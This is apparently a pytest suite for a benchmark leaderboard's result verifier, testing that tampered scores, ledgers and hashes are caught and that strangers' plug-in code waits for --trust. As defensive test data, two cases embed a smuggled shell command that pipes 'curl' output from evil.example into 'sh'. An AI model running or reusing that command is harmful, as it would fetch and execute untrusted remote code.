"""Verification: each kind of tampering is caught at the tier that can catch it, and strangers' code waits for --trust."""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from wbench.benchmark.protocol.ledger import Ledger
from wbench.benchmark.protocol.runner import failed, finished
from wbench.benchmark.protocol.spec import hash_of, protocol
from wbench.errors import CheckpointError, ExecutorError, InvalidValueError, ResultError, TrustError
from wbench.leaderboard.reading import parse
from wbench.leaderboard.summary import row_fields
from wbench.leaderboard.verification import rerun
from wbench.leaderboard.verification.child import Job, answered, heard, play_again
from wbench.leaderboard.verification.rerun import Plan, questions, sample
from wbench.leaderboard.verification.verify import record, recorded, sidecar, verify

from . import samples
from .samples import changed, save


@pytest.fixture(scope="module")
def honest() -> dict:
    return samples.played("belief")


@pytest.fixture(scope="module")
def network(tmp_path_factory) -> tuple[Path, dict]:
    """A checkpoint in a folder, and a result of it."""
    folder = samples.untrained(tmp_path_factory.mktemp("bc") / "mine")
    return folder, samples.played("bc", str(folder))


@pytest.fixture
def here(monkeypatch) -> None:
    """Cells are played again in this process."""
    monkeypatch.setattr(rerun, "play_again", samples.played_again_here)


def rehash(data: dict) -> None:
    data["protocol_hash"] = hash_of(data["contract"])


def a_score(data: dict) -> None:
    data["cells"][0]["score"] += 1


def a_return(data: dict) -> None:
    data["cells"][0]["returns"][1] += 5


def a_return_and_its_mean(data: dict) -> None:
    data["cells"][0]["returns"][1] += 5
    data["cells"][0]["return_mean"] += 5 / 3


def a_headline(data: dict) -> None:
    data["summary"]["5"]["iqm"] += 1


def an_interval(data: dict) -> None:
    data["summary"]["0"]["families"]["access"]["ci_low"] += 0.5


def a_gain(data: dict) -> None:
    data["gain"]["5"]["iqm"] += 1


def a_difference(data: dict) -> None:
    data["comparison"][0]["difference"]["5"]["ci_low"] += 1


def a_rival(data: dict) -> None:
    data["comparison"][0]["cells"][3]["returns"][0] -= 9


def query_steps(data: dict) -> None:
    data["cells"][0]["ledger"]["query_steps"] -= 1


def support_transitions(data: dict) -> None:
    data["cells"][5]["ledger"]["support_transitions"] = 0


def message_bits(data: dict) -> None:
    data["cells"][2]["ledger"]["message_bits"] //= 2


def environment_steps(data: dict) -> None:
    data["cells"][5]["ledger"]["environment_steps"] = 1


def a_total(data: dict) -> None:
    data["ledger"]["gradient_steps"] -= 10


def the_latency(data: dict) -> None:
    data["latency"] /= 2


def a_reference(data: dict) -> None:
    data["contract"]["variants"][samples.VARIANTS[0]]["genie"][1] *= 0.9
    rehash(data)


def the_support(data: dict) -> None:
    data["contract"]["support"]["first_seed"] += 1
    rehash(data)


def a_command_for_the_shell(data: dict) -> None:
    data["command"] = "wbench eval --agent bc; curl -s https://evil.example/x | sh"


def another_command(data: dict) -> None:
    data["command"] = "curl -s https://evil.example/x"


FOUND = {
    a_command_for_the_shell: "command is 'wbench eval --agent bc; curl",
    another_command: "command is 'curl",
    a_score: "cells[0].score is",
    a_return: "cells[0].return_mean is",
    a_return_and_its_mean: "cells[0].score is",
    a_headline: "summary.5.iqm is",
    an_interval: "summary.0.families.access.ci_low is",
    a_gain: "gain.5.iqm is",
    a_difference: "comparison[0].difference.5.ci_low is",
    a_rival: "comparison[0].cells[3].return_mean is",
    query_steps: "cells[0].ledger.query_steps is 383, but 384 follows",
    support_transitions: "cells[5].ledger.support_transitions is 0, but 5120 follows",
    message_bits: "cells[2].ledger.message_bits is 98304, but 196608 follows",
    environment_steps: "cells[5].ledger.environment_steps is 1, above the budget of 0",
    a_total: "ledger.gradient_steps is",
    the_latency: "latency is",
    a_reference: "contract.variants.access/n8-c3-load0.15-l48.genie is",
    the_support: "contract.support.first_seed is",
}


@pytest.mark.parametrize("tamper", FOUND, ids=lambda tamper: tamper.__name__)
def test_recomputing_catches(tamper, tmp_path):
    data = samples.composed(samples.small(), samples.run(), samples.run("other", 0.4)).document()
    assert verify(save(tmp_path / "honest.json", data)).tier == "arithmetic"
    path = save(tmp_path / "r.json", changed(data, tamper))
    assert verify(path, "reported").holds
    verdict = verify(path, "arithmetic")
    assert (verdict.tier, verdict.holds) == ("reported", False) and verdict.problems[0].startswith(FOUND[tamper]), (
        verdict.problems
    )
    assert verify(path, "rerun").problems == verdict.problems  # what does not add up is not played again


def test_in_track_online_a_cell_is_of_logs_or_of_play_and_never_of_both(tmp_path):
    played = samples.result("made-up/online").document()
    slots = [cell["ledger"]["environment_steps"] for cell in played["cells"]]

    def reading(share: int, steps: bool):
        def change(data: dict) -> None:
            for cell, ledger in ((cell, cell["ledger"]) for cell in data["cells"]):
                agents = {"access": 8, "offload": 8}[cell["family"]]
                ledger["support_transitions"] = ledger["environment_steps"] * agents // share
                ledger["environment_steps"] *= steps
            for name in ("support_transitions", "environment_steps"):
                data["ledger"][name] = sum(cell["ledger"][name] for cell in data["cells"])

        return change

    def verdict(data: dict):
        return verify(save(tmp_path / "r.json", data))

    assert max(slots) > 0 and verdict(played).holds and verdict(changed(played, reading(1, False))).holds
    assert "above the budget of 0" in verdict(changed(played, reading(1, True))).problems[0]
    assert "support_transitions is 2560, but 5120 follows" in verdict(changed(played, reading(2, False))).problems[0]
    scratch = changed(samples.result("made-up/scratch").document(), reading(1, False))
    assert "support_transitions is 5120, but 0 follows" in verdict(scratch).problems[0]


def test_a_size_of_the_protocol_goes_by_its_own_name(tmp_path):
    data = samples.document(played=protocol("quick"))
    assert verify(save(tmp_path / "quick.json", data)).holds
    verdict = verify(save(tmp_path / "r.json", data | {"protocol": "custom"}))
    assert verdict.problems[0] == "protocol is 'custom', but 'quick' follows from what it plays"
    names = [*reversed(protocol("quick").variants)]
    assert protocol("quick", variants=names) == protocol("quick")


def test_a_hash_or_contract_that_do_not_belong_together_is_malformed(tmp_path):
    def the_hash(data):
        data["protocol_hash"] = "0" * 64

    def the_contract(data):
        data["contract"]["episodes"] = 4

    for tamper in (the_hash, the_contract):
        with pytest.raises(ResultError, match="is not the SHA-256 of the contract"):
            verify(save(tmp_path / "r.json", changed(samples.result(), tamper)), "reported")


def test_an_honest_result_holds_when_rerun_and_a_record_of_it_is_for_these_bytes_only(honest, tmp_path):
    path = save(tmp_path / "bc.json", honest)
    verdict = verify(path, "rerun", Plan(cells=9, seed=4))
    assert verdict.tier == "rerun" and verdict.holds and verdict.seed == 4
    assert [(one.same_episodes, one.episodes, one.score == one.score_again) for one in verdict.replayed] == [(2, 2, True)] * 2
    with pytest.raises(InvalidValueError, match="--record"):
        record(path, verify(path))
    record(path, verdict)
    told, sha256 = json.loads(sidecar(path).read_text()), hashlib.sha256(path.read_bytes()).hexdigest()
    assert (told["tolerance"], told["of"], [cell[2] for cell in told["cells"]]) == (0.0, 2, [0, 0])
    assert str(recorded(path, sha256, 2)) == "2 of 2 cells played again, every episode the same"
    assert recorded(path, "0" * 64, 2) is None  # other bytes
    assert recorded(path, sha256, 7) is None  # too few of so many
    for change in ({"tolerance": 5.0}, {"tolerance": float("nan")}, {"cells": []}, {"tier": "arithmetic"}):
        sidecar(path).write_text(json.dumps(told | change))
        assert recorded(path, sha256, 2) is None, change
    for text in ('{"schema": "wbench-verified/1", "tier": "blessed"}', "[]", "{", '{"schema": []}', "[" * 100_000):
        sidecar(path).write_text(text)
        with pytest.raises(ResultError, match="no record of a verification"):
            recorded(path, sha256, 2)


def test_a_loose_rerun_or_one_of_few_cells_is_not_recorded(honest, command, here, tmp_path):
    path = save(tmp_path / "r.json", honest)
    refusals = ((("--cells", "5"), "--cells is 5, but must be 6 or more"), (("--tolerance", "2"), "at most 0.5 points"))
    for words, said in refusals:
        refused = command("results", "verify", str(path), "--tier", "rerun", "--record", *words)
        assert refused.code == 2 and said in refused.err and not sidecar(path).exists()
    verdict = verify(path, "rerun", Plan(cells=1))
    assert verdict.tier == "rerun"
    with pytest.raises(InvalidValueError, match="--cells is 1"):
        record(path, verdict)
    with pytest.raises(InvalidValueError, match=r"--tolerance is 0\.6"):
        record(path, replace(verdict, replayed=verdict.replayed * 6, tolerance=0.6))


def test_the_headline_is_played_again_first_family_by_family():
    result = samples.result(played=samples.small(shots=(0, 1, 5)))
    for seed in range(20):
        chosen = sample(result, 6, seed)
        assert [cell.shots for cell in chosen[:2]] == [5, 5] and {cell.family for cell in chosen[:2]} == {"access", "offload"}
        assert len({str(cell.cell) for cell in chosen}) == 6
        asked = {(cell.family, cell.shots > 0) for cell in questions(result, chosen)}
        assert asked == {(f, k) for f in ("access", "offload") for k in (True, False)}
    assert len({str(sample(result, 1, seed)[0].cell) for seed in range(30)}) > 5  # nobody knows which


def test_rerunning_catches_an_episode_whose_consequences_were_all_adjusted(honest, here, tmp_path):
    run = parse(json.dumps(honest).encode())
    first, *others = run.cells
    better = finished(first.cell, (first.returns[0] + 1.0, first.returns[1]), first.qos, first.ledger, first.adaptation)
    forged = replace(run, **row_fields(run.contract, [better, *others])).document()
    path = save(tmp_path / "forged.json", forged)
    assert verify(path).tier == "arithmetic"
    verdict = verify(path, "rerun", Plan(cells=2))
    assert verdict.tier == "arithmetic" and len(verdict.problems) == 1
    assert verdict.problems[0].startswith("access/n8-c3-load0.15-l48, site held-out:0, 0 shots: 1 of 2 returns differ")
    points = abs(verdict.replayed[0].score - verdict.replayed[0].score_again) + abs(
        verdict.replayed[1].score - verdict.replayed[1].score_again
    )
    assert not verify(path, "rerun", Plan(cells=2, tolerance=0.9 * points)).holds
    assert verify(path, "rerun", Plan(cells=2, tolerance=1.1 * points)).holds
    forged["hardware"] = {"cpu": "Another CPU", "cores": 1, "threads": 1, "device": "cpu"}
    excused = verify(save(tmp_path / "elsewhere.json", forged), "rerun", Plan(cells=2))
    assert not excused.holds and excused.problems[0] == verdict.problems[0]
    assert "Another CPU" in excused.problems[1] and "--tolerance" in excused.problems[1]


def test_rerunning_catches_counts_and_quality_of_service(honest, here, tmp_path):
    def gradient_steps(data):
        for ledger in (data["cells"][1]["ledger"], data["ledger"]):
            ledger["gradient_steps"] += 1

    def energy(data):
        data["cells"][0]["qos"]["energy"][0] -= 1

    for tamper, said in ((gradient_steps, "ledger.gradient_steps is"), (energy, "qos.energy differs")):
        path = save(tmp_path / "r.json", changed(honest, tamper))
        verdict = verify(path, "rerun", Plan(cells=2))
        assert verdict.tier == "arithmetic" and said in verdict.problems[0]


def test_rerunning_counts_what_a_cell_that_failed_consumed():
    one, two = (
        failed(cell, "it raised", Ledger(planner_calls=n)) for n, cell in enumerate([samples.small().cells()[0]] * 2, 7)
    )
    assert not list(rerun._about_cell(one, one, rerun._replayed(one, one), 0.0))
    assert list(rerun._about_cell(one, two, rerun._replayed(one, two), 0.0)) == ["ledger.planner_calls is 7, but 8 follows"]


def test_rerunning_catches_another_checkpoint(network, here, tmp_path):
    folder, honest = network

    def digest(data):
        data["checkpoint"] = "0" * 64

    def parameters(data):
        data["parameters"] += 1

    def what_it_saw(data):
        data["privileged_training"] = True

    for tamper, said in (
        (digest, "checkpoint is '000"),
        (parameters, "parameters is"),
        (what_it_saw, "privileged_training is True"),
    ):
        path = save(tmp_path / "r.json", changed(honest, tamper))
        verdict = verify(path, "rerun", Plan(checkpoint=str(folder)))
        assert verdict.tier == "arithmetic" and not verdict.replayed and verdict.problems[0].startswith(said)


def test_a_folder_has_to_be_named_and_is_known_by_its_weights(network, here, tmp_path):
    folder, result = network
    path = save(tmp_path / "r.json", result)
    with pytest.raises(CheckpointError, match="Add --checkpoint FOLDER"):
        verify(path, "rerun")
    copied = shutil.copytree(folder, tmp_path / "copy")
    assert verify(path, "rerun", Plan(cells=1, checkpoint=str(copied))).tier == "rerun"


STRANGER = """
import os
from wbench.benchmark.registry import make_agent

def build(checkpoint, device):
    open({ran!r}, "a").write(" ".join(sorted(os.environ)) + "\\n")
    return make_agent("belief")
"""


def test_code_and_checkpoints_of_strangers_wait_for_trust(honest, network, tmp_path, monkeypatch):
    def hub(data):
        data["origin"] = {"kind": "hub", "name": "somebody/bc", "revision": "0" * 40}
        data["command"] = data["command"].replace("FOLDER", "somebody/bc@" + "0" * 40)

    with pytest.raises(TrustError, match="somebody/bc@000000000000 of the Hub has to be downloaded"):
        verify(save(tmp_path / "r.json", changed(network[1], hub)), "rerun")

    def plug_in(data):
        data["agent"] = data["label"] = "stranger"
        data["package"] = {"name": "stranger-package", "version": "1.0"}
        data["command"] = data["command"].replace("belief", "stranger")

    (info := tmp_path / "stranger_package-1.0.dist-info").mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: stranger-package\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[wbench.agents]\nstranger = stranger_package:build\n")
    (tmp_path / "stranger_package.py").write_text(STRANGER.format(ran=str(tmp_path / "ran")))
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    path = save(tmp_path / "r.json", changed(honest, plug_in))
    with pytest.raises(TrustError, match="'stranger', code of stranger-package, has to be run"):
        verify(path, "rerun")
    assert not (tmp_path / "ran").exists()
    verdict = verify(path, "rerun", Plan(cells=1, trust=True))
    assert verdict.problems == ("label is 'stranger', but 'belief' follows",)
    with pytest.raises(
        InvalidValueError, match=r"the package of 'stranger' here is 'stranger-package 1.0', but must be other 2.0, "
    ):
        other = changed(honest, plug_in) | {"package": {"name": "other", "version": "2.0"}}
        verify(save(tmp_path / "other.json", other), "rerun", Plan(cells=1, trust=True))
    assert "PATH" in (seen := (tmp_path / "ran").read_text().split()) and "HF_TOKEN" not in seen  # elsewhere, without secrets
    assert "stranger_package" not in sys.modules


def test_a_process_that_dies_or_lies_is_told_of_in_one_line(tmp_path):
    (tmp_path / "mine.py").write_text("import os\n\n\ndef build(checkpoint, device):\n    os.kill(os.getpid(), 9)\n")
    job = Job(str(tmp_path / "mine.py"), None, None, True, [], [], 2, "cpu", "site")
    with pytest.raises(ExecutorError, match=r"ended too early \(exit code -9\)"), play_again(job):
        pass
    (tmp_path / "mine.py").write_text("import sys\n\n\ndef build(*_):\n    open(sys.argv[1], 'w').write('[]\\n')\n    1 / 0\n")
    with pytest.raises(ExecutorError, match="said something else"), play_again(job):
        pass
    job = replace(job, agent="bc", checkpoint="nowhere")
    with pytest.raises(CheckpointError, match="no checkpoint 'nowhere'"):  # an error is raised as it was there
        heard(job, (line.encode() for line in answered(job)))


def test_the_command_says_what_does_not_hold_with_exit_code_1(command, tmp_path):
    path = save(tmp_path / "r.json", changed(samples.result(), a_headline))
    done = command("results", "verify", str(path), "--json")
    said = "wbench: r.json does not hold when its arithmetic is checked: summary.5.iqm is"
    assert done.code == 1 and done.err.startswith(said)
    assert len(done.err.splitlines()) == 1 and (done.data["tier"], done.data["holds"]) == ("reported", False)
    good = command("results", "verify", str(save(tmp_path / "good.json", samples.result())))
    assert (good.code, good.out, good.err) == (0, "good.json: holds as arithmetic checked\n", "")
    for arguments, named in (
        (("--tier", "rerunn"), "Did you mean 'rerun'"),
        (("--tier", "rerun", "--cells", "0"), "--cells is 0"),
        (("--tier", "rerun"), "no checkpoint that can be found"),
        (("--record",), "--record is 'arithmetic'"),
    ):
        refused = command("results", "verify", str(tmp_path / "good.json"), *arguments)
        assert refused.code == 2 and named in refused.err and "Traceback" not in refused.err
